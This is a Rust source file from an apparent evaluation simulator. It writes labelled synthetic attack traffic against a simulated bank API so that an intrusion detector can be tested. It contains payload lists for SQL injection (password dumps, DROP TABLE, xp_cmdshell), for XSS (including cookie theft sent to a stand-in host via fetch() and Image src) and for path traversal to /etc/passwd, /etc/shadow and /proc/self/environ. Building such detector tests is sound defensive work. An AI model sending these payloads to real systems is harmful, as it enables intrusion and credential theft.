@@ -1,0 +1,1016 @@
+//! The evaluation simulator, part two: attack scenarios of every alert kind a detector should
+//! raise from HTTP (all of DESIGN.md's kinds except `spoofed_flood`, which the kernel sees),
+//! each varied by the seed (rates, sizes, places, payloads, variants) and labelled with the
+//! addresses and principals it involves. The reference case is the first brute force: 500 login
+//! attempts on `layla` in 3 minutes from a Hanoi address.
+//!
+//! Scenarios happen at random times during the last days of the simulated history, interleaved
+//! with benign traffic and with each other; attackers get addresses of their own, and attacks on
+//! accounts pick victims with enough history to be established at that time.
+
+use std::net::IpAddr;
+
+use super::sim::{
+    APP_UAS, ATTACKER_CITIES, Builder, CITIES, DAY, HOUR, NS, Rng, Scenario, User, WEB_UAS,
+    attacker_addr, attacker_addr6, bearer, card_number, city_addr, distance_km, iban, jwt,
+    luhn_number, post_json, req, resp,
+};
+use crate::models::AlertKind;
+
+/// The kinds the simulator writes scenarios for: every kind but `spoofed_flood`.
+pub fn kinds() -> impl Iterator<Item = AlertKind> {
+    AlertKind::ALL
+        .into_iter()
+        .filter(|k| *k != AlertKind::SpoofedFlood)
+}
+
+/// Volumetric kinds: their first alert is due within a second of the attack's start.
+pub const VOLUMETRIC: [AlertKind; 5] = [
+    AlertKind::BruteForce,
+    AlertKind::CredentialStuffing,
+    AlertKind::RateAnomaly,
+    AlertKind::Enumeration,
+    AlertKind::Scraping,
+];
+
+/// Injection kinds: their first alert is due within five attempts.
+pub const INJECTION: [AlertKind; 3] = [
+    AlertKind::SqlInjection,
+    AlertKind::Xss,
+    AlertKind::PathTraversal,
+];
+
+/// Automated clients' user agents.
+const TOOL_UAS: &[&str] = &[
+    "python-requests/2.31.0",
+    "curl/8.4.0",
+    "Go-http-client/1.1",
+    "hydra",
+    "okhttp/4.9.2",
+];
+
+/// Where attacks are written.
+pub struct Stage<'a> {
+    /// Exchanges.
+    pub b: &'a mut Builder,
+    /// Randomness.
+    pub rng: &'a mut Rng,
+    /// The benign users (victims are chosen among them).
+    pub users: &'a [User],
+    /// Attacks start at or after this.
+    pub from_ns: u64,
+    /// And end before this.
+    pub to_ns: u64,
+    /// Next unused address per attacker city.
+    pub next_addr: Vec<u64>,
+    /// Users already chosen as victims of an account attack (each scenario gets its own, so
+    /// that one attack does not teach a profile what the next one should stand out from).
+    pub victims: Vec<bool>,
+}
+
+/// A scenario being written: its exchanges go out as they are made.
+struct Attack {
+    kind: AlertKind,
+    variant: String,
+    sources: Vec<IpAddr>,
+    principals: Vec<String>,
+    first_ns: u64,
+    attempts_ns: Vec<u64>,
+}
+
+impl Attack {
+    fn new(kind: AlertKind, variant: &str) -> Self {
+        Self {
+            kind,
+            variant: variant.to_owned(),
+            sources: Vec::new(),
+            principals: Vec::new(),
+            first_ns: u64::MAX,
+            attempts_ns: Vec::new(),
+        }
+    }
+
+    /// Sends one attack request (counted as an attempt when `attempt`).
+    fn send(
+        &mut self,
+        b: &mut Builder,
+        t: u64,
+        ip: IpAddr,
+        request: Vec<u8>,
+        response: Vec<u8>,
+        attempt: bool,
+    ) {
+        if !self.sources.contains(&ip) {
+            self.sources.push(ip);
+        }
+        self.first_ns = self.first_ns.min(t);
+        if attempt {
+            self.attempts_ns.push(t);
+        }
+        b.push(t, ip, request, response);
+    }
+
+    fn done(self) -> Scenario {
+        let start = self.attempts_ns.iter().copied().min().unwrap_or(0);
+        let end = self.attempts_ns.iter().copied().max().unwrap_or(start);
+        Scenario {
+            id: 0,
+            kind: self.kind,
+            variant: self.variant,
+            sources: self.sources.iter().map(ToString::to_string).collect(),
+            principals: self.principals,
+            first_ns: self.first_ns.min(start),
+            start_ns: start,
+            end_ns: end,
+            attempts_ns: self.attempts_ns,
+        }
+    }
+}
+
+impl Stage<'_> {
+    /// A fresh address of attacker city `a` (IPv6 one time in ten).
+    fn attacker(&mut self, a: usize) -> IpAddr {
+        let k = self.next_addr[a];
+        self.next_addr[a] += 1;
+        if self.rng.chance(0.1) {
+            attacker_addr6(a, k)
+        } else {
+            attacker_addr(a, k)
+        }
+    }
+
+    /// A fresh address of a random attacker city.
+    fn any_attacker(&mut self) -> IpAddr {
+        let a = self.rng.below(ATTACKER_CITIES.len() as u64) as usize;
+        self.attacker(a)
+    }
+
+    /// A random start time in the attack period (an hour from its end at the latest).
+    fn when(&mut self) -> u64 {
+        self.from_ns
+            + self
+                .rng
+                .below((self.to_ns - self.from_ns).saturating_sub(HOUR))
+    }
+
+    /// A victim established at `t`: at least `min_requests` requests and a first session at
+    /// least `min_age` before.
+    fn victim(&mut self, t: u64, min_requests: u64, min_age: u64) -> Option<usize> {
+        for _ in 0..200 {
+            let i = self.rng.below(self.users.len() as u64 - 1) as usize;
+            let (n, first) = self.users[i].history_before(t);
+            if !self.victims[i] && n >= min_requests && first.is_some_and(|f| f + min_age < t) {
+                self.victims[i] = true;
+                return Some(i);
+            }
+        }
+        None
+    }
+
+    /// A user no other scenario has as a victim (marked as one now).
+    fn fresh_user(&mut self) -> usize {
+        loop {
+            let i = self.rng.below(self.users.len() as u64 - 1) as usize;
+            if !self.victims[i] {
+                self.victims[i] = true;
+                return i;
+            }
+        }
+    }
+
+    /// A time and an established victim, retrying times until one is found.
+    fn time_and_victim(&mut self, min_requests: u64, min_age: u64) -> (u64, usize) {
+        loop {
+            let t = self.when();
+            if let Some(v) = self.victim(t, min_requests, min_age) {
+                return (t, v);
+            }
+        }
+    }
+
+    /// `1/rate` seconds with ±30% jitter, in ns.
+    fn interval(&mut self, per_s: f64) -> u64 {
+        let base = NS as f64 / per_s;
+        (base * (0.7 + 0.6 * self.rng.unit())) as u64
+    }
+}
+
+fn login_body(form: bool, user: &str, password: &str) -> (&'static str, String) {
+    if form {
+        (
+            "application/x-www-form-urlencoded",
+            format!("username={user}&password={password}"),
+        )
+    } else {
+        (
+            "application/json",
+            format!("{{\"username\":\"{user}\",\"password\":\"{password}\"}}"),
+        )
+    }
+}
+
+fn failed() -> Vec<u8> {
+    resp(401, "{\"error\":\"invalid credentials\"}")
+}
+
+fn brute_force(st: &mut Stage<'_>, k: usize) -> Scenario {
+    let mut a = Attack::new(AlertKind::BruteForce, "one account");
+    let (victim, ip, n, rate, ua, form) = if k == 0 {
+        // The reference case: 500 attempts in 3 minutes from Hanoi on layla.
+        let ip = attacker_addr(0, st.next_addr[0]);
+        st.next_addr[0] += 1;
+        a.variant = "reference case".into();
+        (
+            st.users.len() - 1,
+            ip,
+            500,
+            500.0 / 180.0,
+            TOOL_UAS[0],
+            false,
+        )
+    } else {
+        let v = st.fresh_user();
+        let ip = st.any_attacker();
+        let rate = 2.8 + st.rng.unit() * 7.2;
+        let ua = if st.rng.chance(0.5) {
+            *st.rng.pick(TOOL_UAS)
+        } else {
+            *st.rng.pick(WEB_UAS)
+        };
+        let form = st.rng.chance(0.3);
+        (v, ip, st.rng.range(50, 400), rate, ua, form)
+    };
+    let name = st.users[victim].name.clone();
+    a.principals.push(format!("user:{name}"));
+    let mut t = st.when();
+    for i in 0..n {
+        let (ct, body) = login_body(form, &name, &format!("guess{i}"));
+        let r = req("POST", "/login", ua, &[], Some((ct, &body)));
+        a.send(st.b, t, ip, r, failed(), true);
+        t += if k == 0 {
+            180 * NS / 500
+        } else {
+            st.interval(rate)
+        };
+    }
+    a.done()
+}
+
+fn credential_stuffing(st: &mut Stage<'_>, k: usize) -> Scenario {
+    let distributed = st.rng.chance(0.3);
+    let mut a = Attack::new(
+        AlertKind::CredentialStuffing,
+        if distributed {
+            "distributed, one fingerprint"
+        } else {
+            "one source"
+        },
+    );
+    let sources: Vec<IpAddr> = if distributed {
+        (0..st.rng.range(6, 20))
+            .map(|_| st.any_attacker())
+            .collect()
+    } else {
+        vec![st.any_attacker()]
+    };
+    let ua = if distributed {
+        "okhttp/4.9.2"
+    } else {
+        *st.rng.pick(&[TOOL_UAS[0], TOOL_UAS[2], WEB_UAS[0]])
+    };
+    let rate = if distributed {
+        20.0 + st.rng.unit() * 30.0
+    } else {
+        8.0 + st.rng.unit() * 22.0
+    };
+    let n = st.rng.range(100, 400);
+    let form = st.rng.chance(0.3);
+    let mut t = st.when();
+    for i in 0..n {
+        let real = st.rng.chance(0.3);
+        let ok = st.rng.chance(0.02);
+        let user = if real && ok {
+            // A reused password that works: the account is taken over (and no other scenario
+            // gets it as a victim).
+            let v = st.fresh_user();
+            a.principals.push(format!("user:{}", st.users[v].name));
+            st.users[v].name.clone()
+        } else if real {
+            st.users[st.rng.below(st.users.len() as u64) as usize]
+                .name
+                .clone()
+        } else {
+            format!("leak{k}-{i}@mail.test")
+        };
+        let (ct, body) = login_body(form, &user, "Summer2024!");
+        let ip = *st.rng.pick(&sources);
+        let r = req(
+            "POST",
+            "/login",
+            ua,
+            &[("Accept-Language", "en-US")],
+            Some((ct, &body)),
+        );
+        let ok = ok && real;
+        let response = if ok {
+            resp(200, "{\"token\":\"opaque-session-token\"}")
+        } else {
+            failed()
+        };
+        a.send(st.b, t, ip, r, response, true);
+        t += st.interval(rate);
+    }
+    a.done()
+}
+
+fn rate_anomaly(st: &mut Stage<'_>, k: usize) -> Scenario {
+    let (t0, v) = st.time_and_victim(10, DAY);
+    let u = &st.users[v];
+    let same_host = st.rng.chance(0.5);
+    let mut a = Attack::new(
+        AlertKind::RateAnomaly,
+        if same_host {
+            "owner's address"
+        } else {
+            "owner's city"
+        },
+    );
+    let (city, here) = u.whereabouts(t0, v);
+    let ip = if same_host {
+        here
+    } else {
+        city_addr(city, 3700 + k as u64)
+    };
+    let path = if st.rng.chance(0.5) {
+        "/balance".to_owned()
+    } else {
+        format!("/accounts/{}/transactions?page=1", u.account)
+    };
+    let ua = if st.rng.chance(0.5) {
+        u.ua
+    } else {
+        *st.rng.pick(TOOL_UAS)
+    };
+    let tok = login_as(st, &mut a, v, ip, ua, t0);
+    a.attempts_ns.clear();
+    let auth = bearer(&tok);
+    let rate = 30.0 + st.rng.unit() * 120.0;
+    let secs = st.rng.range(10, 40) as f64;
+    let n = (rate * secs) as u64;
+    let mut t = t0 + st.rng.range(1, 5) * NS;
+    for _ in 0..n {
+        let r = req("GET", &path, ua, &[("Authorization", &auth)], None);
+        a.send(
+            st.b,
+            t,
+            ip,
+            r,
+            resp(200, "{\"balance\":1200.00,\"currency\":\"SAR\"}"),
+            true,
+        );
+        t += st.interval(rate);
+    }
+    a.done()
+}
+
+/// A successful login as user `v` from `ip` at `t` (an attack request); returns the token the
+/// server issued, which the engine links to the account.
+fn login_as(st: &mut Stage<'_>, a: &mut Attack, v: usize, ip: IpAddr, ua: &str, t: u64) -> String {
+    let u = &st.users[v];
+    let (name, password) = (u.name.clone(), u.password.clone());
+    for p in [format!("user:{name}"), format!("jwt:{name}")] {
+        if !a.principals.contains(&p) {
+            a.principals.push(p);
+        }
+    }
+    let tok = jwt("RS256", &name, t / NS, t / NS + 3600, st.rng);
+    let (ct, body) = login_body(false, &name, &password);
+    a.send(
+        st.b,
+        t,
+        ip,
+        req("POST", "/login", ua, &[], Some((ct, &body))),
+        resp(200, &format!("{{\"token\":\"{tok}\"}}")),
+        true,
+    );
+    tok
+}
+
+/// A stolen-credential session: login with the victim's password, then their pages.
+#[allow(clippy::too_many_arguments)]
+fn takeover(
+    st: &mut Stage<'_>,
+    a: &mut Attack,
+    v: usize,
+    ip: IpAddr,
+    ua: &str,
+    t0: u64,
+    extra: usize,
+) -> u64 {
+    let account = st.users[v].account;
+    let tok = login_as(st, a, v, ip, ua, t0);
+    let auth = bearer(&tok);
+    let mut t = t0;
+    let pages = [
+        "/balance".to_owned(),
+        format!("/accounts/{account}"),
+        format!("/accounts/{account}/transactions?page=1"),
+    ];
+    for i in 0..2 + extra {
+        t += st.rng.range(2, 20) * NS;
+        let p = &pages[i % pages.len()];
+        a.send(
+            st.b,
+            t,
+            ip,
+            req("GET", p, ua, &[("Authorization", &auth)], None),
+            resp(200, "{\"balance\":1200.00}"),
+            true,
+        );
+    }
+    t
+}
+
+fn impossible_travel(st: &mut Stage<'_>, _k: usize) -> Scenario {
+    let mut a = Attack::new(AlertKind::ImpossibleTravel, "stolen password");
+    loop {
+        let (t, v) = st.time_and_victim(12, DAY + DAY / 2);
+        let Some(last) = st.users[v].last_session_before(t) else {
+            continue;
+        };
+        let t0 = last.end_ns + st.rng.range(5, 90) * 60 * NS;
+        let hours = (t0 - last.end_ns) as f64 / HOUR as f64;
+        let here = &CITIES[last.city];
+        // Somewhere far enough that getting there is impossible: at least 2x the speed limit.
+        let far: Vec<(usize, bool)> = (0..CITIES.len())
+            .map(|c| (c, false))
+            .chain((0..ATTACKER_CITIES.len()).map(|c| (c, true)))
+            .filter(|&(c, att)| {
+                let there = if att { &ATTACKER_CITIES[c] } else { &CITIES[c] };
+                let d = distance_km(here, there);
+                d >= 1500.0 && d / hours >= 2000.0
+            })
+            .collect();
+        if far.is_empty() {
+            continue;
+        }
+        let (c, att) = *st.rng.pick(&far);
+        let ip = if att {
+            st.attacker(c)
+        } else {
+            city_addr(c, 3800 + st.rng.below(200))
+        };
+        let ua = if st.rng.chance(0.5) {
+            st.users[v].ua
+        } else {
+            *st.rng.pick(WEB_UAS)
+        };
+        let extra = st.rng.below(3) as usize;
+        takeover(st, &mut a, v, ip, ua, t0, extra);
+        return a.done();
+    }
+}
+
+fn new_country(st: &mut Stage<'_>, _k: usize) -> Scenario {
+    loop {
+        let (t, v) = st.time_and_victim(12, DAY + DAY / 2);
+        let Some(last) = st.users[v].last_session_before(t) else {
+            continue;
+        };
+        // Long enough after the owner's last request that the trip is possible, and before
+        // their next session.
+        let t0 = last.end_ns + st.rng.range(8, 20) * HOUR;
+        if t0 + HOUR > st.to_ns
+            || st.users[v]
+                .sessions
+                .iter()
+                .any(|s| s.start_ns > last.end_ns && s.start_ns <= t0 + HOUR)
+        {
+            continue;
+        }
+        let a_city = st.rng.below(ATTACKER_CITIES.len() as u64) as usize;
+        let hours = (t0 - last.end_ns) as f64 / HOUR as f64;
+        if distance_km(&CITIES[last.city], &ATTACKER_CITIES[a_city]) / hours > 900.0 {
+            continue;
+        }
+        let mut a = Attack::new(AlertKind::NewCountry, "new device");
+        let ip = st.attacker(a_city);
+        let own = st.users[v].ua;
+        let ua = loop {
+            let u = if st.rng.chance(0.5) {
+                *st.rng.pick(WEB_UAS)
+            } else {
+                *st.rng.pick(TOOL_UAS)
+            };
+            if u != own && !(u.starts_with("Mozilla") && own.starts_with("Mozilla")) {
+                break u;
+            }
+        };
+        let extra = st.rng.below(3) as usize;
+        takeover(st, &mut a, v, ip, ua, t0, extra);
+        return a.done();
+    }
+}
+
+fn behavior_anomaly(st: &mut Stage<'_>, _k: usize) -> Scenario {
+    let mut a = Attack::new(AlertKind::BehaviorAnomaly, "session hijack");
+    let (t, v) = st.time_and_victim(30, 2 * DAY);
+    let u = &st.users[v];
+    // At night, from the owner's own network (no geography to give it away).
+    let t0 = t - t % DAY + st.rng.range(1, 3) * HOUR + st.rng.below(HOUR);
+    let t0 = if t0 < st.from_ns { t0 + DAY } else { t0 };
+    let (name, account, ip) = (u.name.clone(), u.account, u.whereabouts(t0, v).1);
+    let ua = if u.ua.starts_with("BankApp") {
+        *st.rng.pick(&[WEB_UAS[1], TOOL_UAS[1], TOOL_UAS[0]])
+    } else {
+        *st.rng.pick(&[APP_UAS[2], TOOL_UAS[1], TOOL_UAS[0]])
+    };
+    let _ = name;
+    let tok = login_as(st, &mut a, v, ip, ua, t0);
+    let auth = bearer(&tok);
+    let h = [("Authorization", auth.as_str())];
+    let mut t = t0;
+    let n = st.rng.range(20, 30);
+    for i in 0..n {
+        t += st.rng.range(3, 15) * NS;
+        let (r, p) = match i % 5 {
+            0 => (
+                req("GET", "/beneficiaries", ua, &h, None),
+                resp(200, "{\"items\":[]}"),
+            ),
+            1 => {
+                let body = format!(
+                    "{{\"name\":\"Mule {i}\",\"iban\":\"{}\",\"note\":\"{}\"}}",
+                    iban(900_000 + st.rng.below(99_999)),
+                    "x".repeat(200)
+                );
+                (
+                    post_json("/beneficiaries", ua, &h, &body),
+                    resp(201, "{\"status\":\"created\"}"),
+                )
+            }
+            2 => {
+                let body = format!(
+                    "{{\"to_iban\":\"{}\",\"amount\":{},\"reference\":\"{}\"}}",
+                    iban(900_000 + st.rng.below(99_999)),
+                    st.rng.range(5000, 20000),
+                    "y".repeat(300)
+                );
+                (
+                    post_json("/transfer", ua, &h, &body),
+                    resp(200, "{\"status\":\"ok\"}"),
+                )
+            }
+            3 => (
+                req(
+                    "PUT",
+                    "/profile/contact",
+                    ua,
+                    &h,
+                    Some(("application/json", "{\"email\":\"new@mail.test\"}")),
+                ),
+                resp(200, "{\"status\":\"ok\"}"),
+            ),
+            _ => (
+                req("GET", &format!("/accounts/{account}/limits"), ua, &h, None),
+                resp(403, "{\"error\":\"forbidden\"}"),
+            ),
+        };
+        a.send(st.b, t, ip, r, p, true);
+    }
+    a.done()
+}
+
+const SQLI: &[&str] = &[
+    "1' OR '1'='1",
+    "1 UNION SELECT username,password FROM users--",
+    "'; DROP TABLE accounts;--",
+    "1) AND SLEEP(5)--",
+    "admin'--",
+    "1' AND extractvalue(1,concat(0x7e,version()))--",
+    "' OR 1=1 LIMIT 1 --",
+    "1; EXEC xp_cmdshell('dir')--",
+];
+const XSS: &[&str] = &[
+    "<script>alert(document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=fetch('//x.test/'+document.cookie)>",
+    "\"><script>new Image().src='//x.test/?c='+document.cookie</script>",
+    "<body onload=alert('xss')>",
+    "<iframe src=javascript:alert(1)>",
+];
+const TRAVERSAL: &[&str] = &[
+    "../../../../etc/passwd",
+    "..%2f..%2f..%2fetc%2fshadow",
+    "....//....//....//etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2fproc/self/environ",
+    "/var/www/../../etc/hosts",
+];
+
+fn pct(s: &str) -> String {
+    let mut o = String::new();
+    for b in s.bytes() {
+        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
+            o.push(char::from(b));
+        } else {
+            o.push_str(&format!("%{b:02X}"));
+        }
+    }
+    o
+}
+
+fn injection(st: &mut Stage<'_>, kind: AlertKind) -> Scenario {
+    let payloads = match kind {
+        AlertKind::SqlInjection => SQLI,
+        AlertKind::Xss => XSS,
+        _ => TRAVERSAL,
+    };
+    let places: &[&str] = match kind {
+        AlertKind::PathTraversal => &["query", "path", "json"],
+        _ => &["query", "json", "form", "header"],
+    };
+    let place = *st.rng.pick(places);
+    let mut a = Attack::new(kind, &format!("payload in {place}"));
+    let ip = st.any_attacker();
+    let ua = *st
+        .rng
+        .pick(&[WEB_UAS[0], TOOL_UAS[1], "sqlmap/1.8.4#stable"]);
+    let mut t = st.when();
+    // A look around first.
+    for p in ["/rates", "/news/3"].iter().take(st.rng.below(3) as usize) {
+        a.send(
+            st.b,
+            t,
+            ip,
+            req("GET", p, ua, &[], None),
+            resp(200, "{}"),
+            false,
+        );
+        t += st.rng.range(1, 5) * NS;
+    }
+    for _ in 0..st.rng.range(3, 8) {
+        let p = *st.rng.pick(payloads);
+        let r = match place {
+            "query" => {
+                let target = match kind {
+                    AlertKind::PathTraversal => format!("/files?name={}", pct(p)),
+                    _ => format!("/search?q={}", pct(p)),
+                };
+                req("GET", &target, ua, &[], None)
+            }
+            "path" => req("GET", &format!("/static/{p}"), ua, &[], None),
+            "json" => {
+                let body = serde_json::json!({ "q": p, "page": 1 }).to_string();
+                let target = if kind == AlertKind::PathTraversal {
+                    "/documents/open"
+                } else {
+                    "/search"
+                };
+                post_json(target, ua, &[], &body)
+            }
+            "form" => {
+                let body = format!("name={}&message=hello", pct(p));
+                req(
+                    "POST",
+                    "/contact",
+                    ua,
+                    &[],
+                    Some(("application/x-www-form-urlencoded", &body)),
+                )
+            }
+            _ => req(
+                "GET",
+                "/news/4",
+                ua,
+                &[("Referer", &format!("https://bank.test/search?q={}", pct(p)))],
+                None,
+            ),
+        };
+        a.send(st.b, t, ip, r, resp(404, "{}"), true);
+        t += st.rng.range(200, 3000) * NS / 1000;
+    }
+    a.done()
+}
+
+fn data_exposure(st: &mut Stage<'_>, _k: usize) -> Scenario {
+    let variants = [
+        "cards",
+        "ibans",
+        "emails",
+        "private key",
+        "secret field",
+        "national ids",
+        "oversized",
+    ];
+    let variant = *st.rng.pick(&variants);
+    let mut a = Attack::new(AlertKind::DataExposure, variant);
+    let (t0, v) = st.time_and_victim(5, DAY);
+    let u = &st.users[v];
+    let (name, account) = (u.name.clone(), u.account);
+    let ip = st.any_attacker();
+    let tok = jwt("RS256", &name, t0 / NS, t0 / NS + 3600, st.rng);
+    a.principals.push(format!("jwt:{name}"));
+    let auth = bearer(&tok);
+    let h = [("Authorization", auth.as_str())];
+    let many = st.rng.range(20, 100) as usize;
+    let (path, body) = match variant {
+        "cards" => {
+            let items: Vec<String> = (0..many)
+                .map(|_| {
+                    format!(
+                        "{{\"number\":\"{}\",\"cvv\":\"{:03}\"}}",
+                        card_number(*st.rng.pick(&[4, 51, 37]), st.rng),
+                        st.rng.below(1000)
+                    )
+                })
+                .collect();
+            (
+                "/admin/export?table=cards".to_owned(),
+                format!("[{}]", items.join(",")),
+            )
+        }
+        "ibans" => {
+            let items: Vec<String> = (0..many)
+                .map(|_| format!("{{\"iban\":\"{}\"}}", iban(100_000 + st.rng.below(900_000))))
+                .collect();
+            (
+                "/accounts?all=true".to_owned(),
+                format!("[{}]", items.join(",")),
+            )
+        }
+        "emails" => {
+            let items: Vec<String> = (0..many * 3)
+                .map(|i| format!("\"customer{i}.{}@mail.test\"", st.rng.below(1000)))
+                .collect();
+            (
+                "/users?limit=500".to_owned(),
+                format!("{{\"emails\":[{}]}}", items.join(",")),
+            )
+        }
+        "private key" => (
+            "/debug/config".to_owned(),
+            format!(
+                "{{\"tls_key\":\"-----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEA{}\\n-----END RSA PRIVATE KEY-----\"}}",
+                super::sim::b64(&(0..48).map(|_| st.rng.below(256) as u8).collect::<Vec<_>>())
+            ),
+        ),
+        "secret field" => (
+            "/api/integrations".to_owned(),
+            format!(
+                "{{\"provider\":\"payments\",\"client_id\":\"bank-web\",\"client_secret\":\"{}\"}}",
+                super::sim::b64(&(0..24).map(|_| st.rng.below(256) as u8).collect::<Vec<_>>())
+            ),
+        ),
+        "national ids" => {
+            let items: Vec<String> = (0..many)
+                .map(|_| {
+                    let id = luhn_number(1 + st.rng.below(2), 10, st.rng);
+                    format!("{{\"national_id\":\"{id}\"}}")
+                })
+                .collect();
+            (
+                "/customers/search?q=a".to_owned(),
+                format!("[{}]", items.join(",")),
+            )
+        }
+        _ => {
+            let size = st.rng.range(2_000_000, 6_000_000) as usize;
+            (
+                format!("/accounts/{account}/transactions?page=1&size=100000"),
+                format!("{{\"items\":\"{}\"}}", "t".repeat(size)),
+            )
+        }
+    };
+    a.send(
+        st.b,
+        t0,
+        ip,
+        req("GET", &path, TOOL_UAS[1], &h, None),
+        resp(200, &body),
+        true,
+    );
+    a.done()
+}
+
+fn token_reuse(st: &mut Stage<'_>, _k: usize) -> Scenario {
+    let countries = st.rng.chance(0.5);
+    let mut a = Attack::new(
+        AlertKind::TokenReuse,
+        if countries {
+            "several countries"
+        } else {
+            "many networks"
+        },
+    );
+    let (t0, v) = st.time_and_victim(5, DAY);
+    let u = &st.users[v];
+    let account = u.account;
+    // The owner logs in as usual; the token it gets leaks.
+    let (home, ua) = (u.whereabouts(t0, v).1, u.ua);
+    let issued = t0 - st.rng.range(60, 600) * NS;
+    let tok = login_as(st, &mut a, v, home, ua, issued);
+    a.attempts_ns.clear();
+    a.sources.clear();
+    let auth = bearer(&tok);
+    let n_sources = st.rng.range(6, 12);
+    let one_city = st.rng.below(ATTACKER_CITIES.len() as u64) as usize;
+    let sources: Vec<IpAddr> = (0..n_sources)
+        .map(|i| {
+            let c = if countries {
+                i as usize % ATTACKER_CITIES.len()
+            } else {
+                one_city
+            };
+            // A /24 each: skip ahead a network.
+            st.next_addr[c] += 250;
+            let k = st.next_addr[c];
+            st.next_addr[c] += 1;
+            attacker_addr(c, k)
+        })
+        .collect();
+    let mut t = t0;
+    let spread = st.rng.range(30, 300) * NS;
+    for round in 0..3 {
+        for ip in &sources {
+            t += spread / (3 * n_sources);
+            let p = if round % 2 == 0 {
+                "/balance".to_owned()
+            } else {
+                format!("/accounts/{account}")
+            };
+            let ua = *st.rng.pick(WEB_UAS);
+            a.send(
+                st.b,
+                t,
+                *ip,
+                req("GET", &p, ua, &[("Authorization", &auth)], None),
+                resp(200, "{\"balance\":1200.00}"),
+                true,
+            );
+        }
+    }
+    a.done()
+}
+
+fn jwt_weakness(st: &mut Stage<'_>, _k: usize) -> Scenario {
+    let none = st.rng.chance(0.5);
+    let mut a = Attack::new(
+        AlertKind::JwtWeakness,
+        if none {
+            "alg none accepted"
+        } else {
+            "expired token accepted"
+        },
+    );
+    let (t0, v) = st.time_and_victim(5, DAY);
+    let name = st.users[v].name.clone();
+    let ip = st.any_attacker();
+    let now = t0 / NS;
+    let tok = if none {
+        jwt("none", &name, now, now + 3600, st.rng)
+    } else {
+        let age = st.rng.range(1, 4) * 86_400;
+        jwt("RS256", &name, now - age - 3600, now - age, st.rng)
+    };
+    a.principals.push(format!("jwt:{name}"));
+    let auth = bearer(&tok);
+    let mut t = t0;
+    for _ in 0..st.rng.range(1, 5) {
+        a.send(
+            st.b,
+            t,
+            ip,
+            req(
+                "GET",
+                "/balance",
+                TOOL_UAS[1],
+                &[("Authorization", &auth)],
+                None,
+            ),
+            resp(200, "{\"balance\":1200.00}"),
+            true,
+        );
+        t += st.rng.range(1, 10) * NS;
+    }
+    a.done()
+}
+
+fn enumeration(st: &mut Stage<'_>, k: usize) -> Scenario {
+    let mut a = Attack::new(AlertKind::Enumeration, "sequential ids");
+    let ip = st.any_attacker();
+    let mule = format!("mule{k}");
+    a.principals.push(format!("user:{mule}"));
+    a.principals.push(format!("jwt:{mule}"));
+    let t0 = st.when();
+    let tok = jwt("RS256", &mule, t0 / NS, t0 / NS + 3600, st.rng);
+    let ua = *st.rng.pick(&[APP_UAS[0], TOOL_UAS[0], WEB_UAS[2]]);
+    let (ct, body) = login_body(false, &mule, "mule-pass");
+    st.b.push(
+        t0,
+        ip,
+        req("POST", "/login", ua, &[], Some((ct, &body))),
+        resp(200, &format!("{{\"token\":\"{tok}\"}}")),
+    );
+    let auth = bearer(&tok);
+    let rate = 15.0 + st.rng.unit() * 45.0;
+    let step = if st.rng.chance(0.7) {
+        1
+    } else {
+        st.rng.range(2, 3)
+    };
+    let first = 100_000 + st.rng.below(1_800);
+    let n = st.rng.range(60, 300);
+    let mut t = t0 + st.rng.range(2, 10) * NS;
+    for i in 0..n {
+        let id = first + i * step;
+        let ok = st.rng.chance(0.5);
+        let body = if ok {
+            format!(
+                "{{\"id\":{id},\"iban\":\"{}\",\"balance\":{}}}",
+                iban(id),
+                st.rng.below(9000)
+            )
+        } else {
+            "{\"error\":\"forbidden\"}".into()
+        };
+        a.send(
+            st.b,
+            t,
+            ip,
+            req(
+                "GET",
+                &format!("/accounts/{id}"),
+                ua,
+                &[("Authorization", &auth)],
+                None,
+            ),
+            resp(if ok { 200 } else { 403 }, &body),
+            true,
+        );
+        t += st.interval(rate);
+    }
+    a.done()
+}
+
+const CURRENCIES: &[&str] = &[
+    "USD", "EUR", "GBP", "JPY", "AED", "INR", "CNY", "CHF", "CAD", "AUD", "SGD", "HKD", "KRW",
+    "TRY", "EGP", "KWD", "QAR", "BHD", "OMR", "JOD", "PKR", "BDT", "IDR", "MYR", "THB", "PHP",
+    "ZAR", "NGN", "BRL", "MXN",
+];
+
+fn scraping(st: &mut Stage<'_>, _k: usize) -> Scenario {
+    let mut a = Attack::new(AlertKind::Scraping, "public pages");
+    let ip = st.any_attacker();
+    a.principals.push(format!("ip:{ip}"));
+    let ua = *st
+        .rng
+        .pick(&["Scrapy/2.11 (+https://scrapy.org)", WEB_UAS[0], TOOL_UAS[2]]);
+    let rate = 30.0 + st.rng.unit() * 70.0;
+    let n = st.rng.range(100, 300);
+    let mut t = st.when();
+    for _ in 0..n {
+        let p = match st.rng.below(4) {
+            0 => format!("/news/{}", st.rng.below(1_000_000)),
+            1 => format!("/products/{:x}", st.rng.next_u64() & 0xffff_ffff),
+            2 => format!("/branches/{}", st.rng.below(1_000_000)),
+            _ => format!("/rates/{}", st.rng.pick(CURRENCIES)),
+        };
+        a.send(
+            st.b,
+            t,
+            ip,
+            req("GET", &p, ua, &[], None),
+            resp(200, &format!("{{\"page\":\"{}\"}}", "p".repeat(500))),
+            true,
+        );
+        t += st.interval(rate);
+    }
+    a.done()
+}
+
+/// `per_kind` scenarios of every kind in [`KINDS`], numbered in order.
+pub fn generate(st: &mut Stage<'_>, per_kind: usize) -> Vec<Scenario> {
+    let mut out = Vec::new();
+    for kind in kinds() {
+        for k in 0..per_kind {
+            let mut s = match kind {
+                AlertKind::BruteForce => brute_force(st, k),
+                AlertKind::CredentialStuffing => credential_stuffing(st, k),
+                AlertKind::RateAnomaly => rate_anomaly(st, k),
+                AlertKind::ImpossibleTravel => impossible_travel(st, k),
+                AlertKind::NewCountry => new_country(st, k),
+                AlertKind::BehaviorAnomaly => behavior_anomaly(st, k),
+                AlertKind::DataExposure => data_exposure(st, k),
+                AlertKind::TokenReuse => token_reuse(st, k),
+                AlertKind::JwtWeakness => jwt_weakness(st, k),
+                AlertKind::Enumeration => enumeration(st, k),
+                AlertKind::Scraping => scraping(st, k),
+                other => injection(st, other),
+            };
+            s.id = out.len();
+            out.push(s);
+        }
+    }
+    out
+}
